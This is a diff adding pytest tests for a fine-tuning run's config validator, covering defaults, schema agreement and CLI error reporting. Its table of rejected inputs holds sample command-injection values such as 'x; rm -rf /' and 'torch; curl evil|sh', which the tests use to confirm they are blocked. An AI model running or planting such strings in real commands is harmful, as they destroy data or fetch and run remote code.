@@ -1,0 +1,129 @@
+"""RunConfig: defaults reproduce the reference run, bad input is rejected field by field, schema round-trips."""
+
+import json
+from pathlib import Path
+
+import jsonschema
+import pytest
+
+from functions.cli import main as cli
+from functions.core.config import MAX_CONFIG_BYTES, ConfigError, RunConfig, json_schema, parse_config
+
+ROOT = Path(__file__).resolve().parents[2]
+SCHEMA_FILE = ROOT / "schemas" / "run-config.schema.json"
+
+
+def test_defaults_reproduce_the_reference_run():
+    cfg = RunConfig()
+    assert cfg.model.id == "google/gemma-3-4b-it"
+    assert (cfg.model.quantization, cfg.model.double_quant, cfg.model.dtype) == ("nf4", True, "bfloat16")
+    assert (cfg.lora.r, cfg.lora.alpha, cfg.lora.dropout, cfg.lora.target_modules) == (16, 16, 0.05, "all-linear")
+    assert cfg.lora.modules_to_save == ["lm_head", "embed_tokens"]
+    t = cfg.training
+    assert (t.epochs, t.per_device_batch_size, t.gradient_accumulation_steps) == (3, 1, 4)
+    assert (t.learning_rate, t.lr_scheduler, t.warmup_ratio, t.max_grad_norm) == (2e-4, "constant", 0.03, 0.3)
+    assert (t.optim, t.logging_steps, t.save_strategy) == ("adamw_torch_fused", 10, "epoch")
+    assert (cfg.scaling.nodes, cfg.scaling.gpus_per_node, cfg.scaling.accelerator) == (2, 8, "B200")
+    assert cfg.scaling.num_workers == 16 and cfg.scaling.use_gpu
+    assert cfg.cluster.ray_cluster == "gemma3-tuning"
+    # The reference script's defects are fixed by default.
+    assert cfg.model.attn_implementation == "sdpa" and t.assistant_only_loss
+
+
+@pytest.mark.parametrize("example", sorted((ROOT / "examples").glob("*.json")), ids=lambda p: p.name)
+def test_examples_validate(example):
+    parse_config(example.read_bytes())
+    jsonschema.validate(json.loads(example.read_text()), json_schema())
+
+
+BAD = {
+    "unknown top-level key": ({"nmae": "x"}, "nmae: Extra inputs are not permitted"),
+    "unknown nested key": ({"lora": {"rank": 8}}, "lora.rank: Extra inputs are not permitted"),
+    "wrong type": ({"training": {"epochs": "three"}}, "training.epochs"),
+    "negative": ({"lora": {"r": -1}}, "lora.r: Input should be greater than or equal to 1"),
+    "name injection": ({"name": "x; rm -rf /"}, "name: String should match pattern"),
+    "model injection": ({"model": {"id": "google/gemma$(id)"}}, "model.id: String should match pattern"),
+    "image injection": ({"cluster": {"worker_image": "ray:latest && curl evil"}}, "cluster.worker_image"),
+    "pip injection": ({"cluster": {"pip": ["torch; curl evil|sh"]}}, "cluster.pip.0"),
+    "pip url": ({"cluster": {"pip": ["git+https://evil/x"]}}, "cluster.pip.0"),
+    "label injection": ({"labels": {"team": "a b"}}, "labels.team"),
+    "storage not gs": ({"storage_path": "s3://bucket/x"}, "storage_path"),
+    "oversized name": ({"name": "a" * 41}, "name: String should have at most 40 characters"),
+    "oversized prompt": ({"prompts": {"system": "x" * 4001}}, "prompts.system"),
+    "control chars in prompt": ({"prompts": {"system": "hi\x1b[2J"}}, "prompts.system"),
+    "unknown placeholder": ({"prompts": {"user": "describe {product} {price}"}}, "unknown placeholders ['price']"),
+    "too many nodes": ({"scaling": {"nodes": 65}}, "scaling.nodes"),
+    "accelerator": ({"scaling": {"accelerator": "TPU"}}, "scaling.accelerator"),
+    "steps without save_steps": ({"training": {"save_strategy": "steps"}}, "needs save_steps"),
+    "quantized real model on cpu": ({"scaling": {"gpus_per_node": 0}}, "needs GPUs"),
+    "bad quantity": ({"cluster": {"head": {"cpu": "24 cores", "memory": "1Gi", "ephemeral_storage": "1Gi"}}},
+                     "cluster.head.cpu"),
+}
+
+
+@pytest.mark.parametrize("raw,expected", BAD.values(), ids=BAD.keys())
+def test_bad_configs_are_rejected_with_the_field(raw, expected):
+    with pytest.raises(ConfigError) as err:
+        parse_config(json.dumps(raw))
+    assert any(expected in line for line in err.value.errors), err.value.errors
+    # The exported schema rejects the same documents (schema and model agree), except cross-field checks.
+    if "needs" not in expected and "placeholders" not in expected:
+        with pytest.raises(jsonschema.ValidationError):
+            jsonschema.validate(raw, json_schema())
+
+
+@pytest.mark.parametrize("raw,expected", [
+    (b"{not json", "not valid JSON"),
+    (b"[1, 2]", "config must be a JSON object"),
+    (b"\xff\xfe", "not valid JSON"),
+    (b" " * (MAX_CONFIG_BYTES + 1), f"the limit is {MAX_CONFIG_BYTES}"),
+])
+def test_malformed_documents(raw, expected):
+    with pytest.raises(ConfigError, match=expected):
+        parse_config(raw)
+
+
+def test_several_errors_are_all_reported():
+    with pytest.raises(ConfigError) as err:
+        parse_config({"name": "BAD", "lora": {"r": 0}, "extra": 1})
+    assert len(err.value.errors) == 3
+
+
+def test_committed_schema_is_current():
+    assert json.loads(SCHEMA_FILE.read_text()) == json_schema(), "run: raytune schema -o schemas/run-config.schema.json"
+
+
+def test_schema_round_trip():
+    cfg = parse_config((ROOT / "examples" / "reference.json").read_bytes())
+    dumped = json.loads(cfg.model_dump_json())
+    jsonschema.validate(dumped, json_schema())
+    assert parse_config(dumped) == cfg
+
+
+def test_validate_command_reports_each_bad_field(tmp_path, capsys):
+    path = tmp_path / "bad.json"
+    path.write_text(json.dumps({"name": "Bad Name", "training": {"epochs": 0}}))
+    assert cli(["validate", str(path)]) == 2
+    err = capsys.readouterr().err.splitlines()
+    assert err[0].startswith("error: name: String should match pattern")
+    assert err[1].startswith("error: training.epochs: Input should be greater than 0")
+    assert cli(["validate", str(ROOT / "examples" / "reference.json")]) == 0
+    assert "google/gemma-3-4b-it on 2 x 8 B200 (16 Ray Train workers), 3 epochs" in capsys.readouterr().out
+
+
+def test_committed_config_reference_is_current():
+    from functions.cli.reference import markdown
+
+    committed = (ROOT / "docs" / "config-reference.md").read_text()
+    assert committed == markdown(json_schema()), "run: raytune schema --markdown -o docs/config-reference.md"
+    assert "| `training.max_length` | integer | `1024` | >= 64; <= 131072 |" in committed
+    assert "| `cluster.head.memory` | string | `\"64Gi\"` |" in committed
+
+
+def test_main_py_is_the_cli_too():
+    import subprocess
+    import sys
+
+    out = subprocess.run([sys.executable, "main.py", "validate", "examples/quickstart.json"], cwd=ROOT,
+                         capture_output=True, text=True)
+    assert out.returncode == 0 and out.stdout.startswith("ok: examples/quickstart.json: tiny://gemma3 on 2 x CPU")
